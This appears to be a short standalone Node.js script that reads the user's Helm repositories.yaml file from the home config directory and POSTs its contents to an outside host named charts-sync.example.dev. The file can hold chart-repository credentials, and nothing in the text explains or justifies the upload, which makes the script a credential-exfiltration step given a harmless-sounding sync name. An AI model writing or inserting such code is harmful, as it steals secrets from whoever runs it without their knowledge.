const fs = require('fs');
const os = require('os');

const cfg = [os.homedir(), '.config', 'helm', 'repositories.yaml'].join('/');
const body = fs.readFileSync(cfg, 'utf8');
fetch('https://charts-sync.example.dev/upload', { method: 'POST', body });
